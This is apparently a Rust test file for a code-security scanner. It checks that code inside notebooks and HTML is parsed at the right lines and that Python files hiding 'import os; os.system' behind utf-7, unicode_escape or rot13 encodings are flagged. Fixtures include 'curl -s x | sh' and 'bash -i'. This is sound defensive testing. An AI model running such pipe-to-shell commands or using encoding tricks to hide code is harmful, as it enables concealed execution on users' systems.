//! Code inside of files, and source that is not what stands there.

use super::*;

#[tokio::test]
async fn g08_code_in_notebooks_and_pages_is_read_by_its_parser_at_its_line() {
    let notebook = br#"{
 "cells": [
  {"cell_type": "markdown", "source": ["eval(no)"]},
  {"cell_type": "code", "source": [
    "import os\n",
    "!curl -s x | sh\n",
    "os.system(x)"
  ]},
  {"cell_type": "code", "source": "%%bash\nbash -i"}
 ],
 "metadata": {}
}
"#;
    let page = b"<html>\n<script type=\"application/json\">{}</script>\n<SCRIPT async>\nlet a = 1;\neval(x)\n</SCRIPT\n>\n";
    let mut repo = TestRepo::new();
    repo.commit(&[
        (b"a.ipynb", notebook),
        (b"flat.ipynb", br#"{"cells":[{"cell_type":"code","source":["a\n","b(c)"]}]}"#),
        (b"page.html", page),
    ]);
    let copy = copy(&repo, Provider::Semgrep).await;
    let places = |path: &str, language: Language, code: &str| -> Vec<u32> {
        let files = copy.files.iter().filter(|f| f.path == path && f.language == language);
        files
            .flat_map(|file| {
                let text = read(&copy, file);
                let lines = text.lines().zip(1..).filter(|(line, _)| line.contains(code));
                lines
                    .filter_map(|(_, n)| Some(copy.locate(&file.name, n)?.line))
                    .collect::<Vec<_>>()
            })
            .collect()
    };
    let all = |lines: Vec<u32>, line: u32| !lines.is_empty() && lines.iter().all(|l| *l == line);
    assert!(all(places("a.ipynb", Language::Python, "import os"), 5));
    assert!(all(places("a.ipynb", Language::Python, "os.system(x)"), 7));
    assert!(all(places("a.ipynb", Language::Shell, "curl -s x | sh"), 6));
    assert!(all(places("a.ipynb", Language::Shell, "bash -i"), 9));
    assert!(places("a.ipynb", Language::Python, "eval(no)").is_empty());
    assert!(places("a.ipynb", Language::Python, "curl").is_empty());
    assert!(all(places("flat.ipynb", Language::Python, "b(c)"), 1));
    assert!(all(places("page.html", Language::JavaScript, "eval(x)"), 5));
    assert_eq!(unscanned(&copy), []);
}

#[tokio::test]
async fn g11_source_in_an_encoding_that_rewrites_it_is_doubted_and_decoded() {
    let mut repo = TestRepo::new();
    repo.commit(&[
        (
            b"seven.py",
            b"#!/usr/bin/env python3\n# -*- coding: utf-7 -*-\n# x +AAo-import os\nos.system(x)\n",
        ),
        (b"escape.py", b"# coding=unicode_escape\nx = 1\n# \\x0aimport os; \\x6fs.system(x)\n"),
        (b"odd.py", b"# vim: set fileencoding=rot13 :\nvzcbeg bf\n"),
        (b"plain.py", b"# -*- coding: utf-8 -*-\n"),
        (b"old.py", b"# coding: latin-1\n# caf\xe9\n"),
        (b"emacs.py", b"# -*- coding: UTF_8-unix -*-\n"),
        (b"chinese.py", b"# -*- coding: gbk -*-\n# \xc4\xe3\n"),
        (b"late.py", b"import os\n# coding: utf-7\n"),
        (b"third.py", b"\n\n# coding: utf-7\n"),
    ]);
    let copy = copy(&repo, Provider::Semgrep).await;
    let mut found: Vec<_> =
        copy.findings.iter().map(|f| (f.file.as_str(), f.rule.as_str(), f.line)).collect();
    found.sort_unstable();
    let rule = "skillgate.evasion.source-encoding";
    assert_eq!(
        found,
        [("escape.py", rule, Some(1)), ("odd.py", rule, Some(1)), ("seven.py", rule, Some(2))]
    );
    let mut doubted: Vec<_> = unscanned(&copy).into_iter().map(|(file, _)| file).collect();
    doubted.sort_unstable();
    assert_eq!(doubted, ["escape.py", "odd.py", "seven.py"]);
    for (path, code, line) in
        [("seven.py", "\nimport os\n", 3), ("escape.py", "\nimport os; os.system(x)\n", 3)]
    {
        let runs = copy.files.iter().find(|f| f.path == path && read(&copy, f).contains(code));
        let runs = runs.unwrap_or_else(|| panic!("{path}"));
        let text = read(&copy, runs);
        let at = text.lines().position(|l| l.starts_with("import os")).unwrap();
        let place = copy.locate(&runs.name, u32::try_from(at).unwrap() + 1).unwrap();
        assert_eq!(place.line, line, "{path}");
    }
}
